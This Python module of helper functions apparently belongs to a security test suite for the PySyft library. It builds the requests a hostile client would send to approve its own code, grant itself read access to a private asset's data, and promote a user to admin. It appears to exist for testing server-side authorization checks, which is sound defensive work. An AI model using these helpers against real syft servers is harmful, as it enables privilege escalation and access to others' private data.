"""The attacker's tools: syft objects built by hand, as a hostile client would send them.

Nothing here is a mock: each function builds the same syft object a modified client would
put on the wire, and `submit_changes` sends it through syft's own API.
"""

from __future__ import annotations

import contextlib
import io
from collections.abc import Callable
from typing import Any


def quiet(fn: Callable[[], Any]) -> Any:
    """fn()'s value, or the exception it raised (what the attacker gets back)."""
    try:
        with contextlib.redirect_stdout(io.StringIO()):
            return fn()
    except Exception as error:
        return error


def code_approval(code: Any) -> Any:
    """The change syft's own `request_code_execution` makes: approve this code."""
    from syft.service.code.user_code import UserCodeStatus
    from syft.service.request.request import UserCodeStatusChange
    from syft.store.linked_obj import LinkedObject

    return UserCodeStatusChange(
        value=UserCodeStatus.APPROVED,
        linked_obj=code.status_link,
        linked_user_code=LinkedObject.from_obj(code, server_uid=code.server_uid),
    )


def read_permission(action_id: Any, server_uid: Any) -> Any:
    """A READ grant for the requester on a stored object (a private asset's data)."""
    from syft.service.action.action_object import ActionObject
    from syft.service.action.action_permissions import ActionPermission
    from syft.service.action.action_service import ActionService
    from syft.service.request.request import ActionStoreChange
    from syft.store.linked_obj import LinkedObject
    from syft.types.uid import UID

    action_id = UID.from_string(action_id) if isinstance(action_id, str) else action_id
    linked = LinkedObject.from_uid(
        action_id, ActionObject, service_type=ActionService, server_uid=server_uid
    )
    return ActionStoreChange(linked_obj=linked, apply_permission_type=ActionPermission.READ)


def admin_role(user_id: Any, server_uid: Any) -> Any:
    """A change of a user's role to ADMIN."""
    from syft.service.request.request import ObjectMutation
    from syft.service.user.user import User
    from syft.service.user.user_roles import ServiceRole
    from syft.service.user.user_service import UserService
    from syft.store.linked_obj import LinkedObject

    linked = LinkedObject.from_uid(user_id, User, service_type=UserService, server_uid=server_uid)
    return ObjectMutation(
        linked_obj=linked, attr_name="role", value=ServiceRole.ADMIN, match_type=False
    )


def submit_changes(client: Any, changes: list[Any]) -> Any:
    """Send a request with exactly these changes through syft's `request.submit`."""
    from syft.service.request.request import SubmitRequest

    return quiet(lambda: client.api.services.request.submit(SubmitRequest(changes=changes)))


def own_code(client: Any, function_name: str) -> Any:
    """The stored code object of one of the caller's own submitted functions."""
    with contextlib.redirect_stdout(io.StringIO()):
        codes = client.code.get_all()
    return next(c for c in codes if c.service_func_name == function_name)
